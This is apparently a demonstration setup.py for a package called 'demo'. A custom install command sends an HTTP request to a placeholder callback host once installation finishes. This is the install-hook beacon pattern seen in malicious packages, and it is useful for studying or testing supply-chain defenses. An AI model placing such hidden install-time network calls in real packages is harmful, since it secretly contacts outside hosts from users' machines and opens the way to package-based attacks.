import urllib.request
from setuptools import setup
from setuptools.command.install import install


class Post(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("http://callback.payload.invalid/installed")


setup(name="demo", version="1.0", cmdclass={"install": Post})
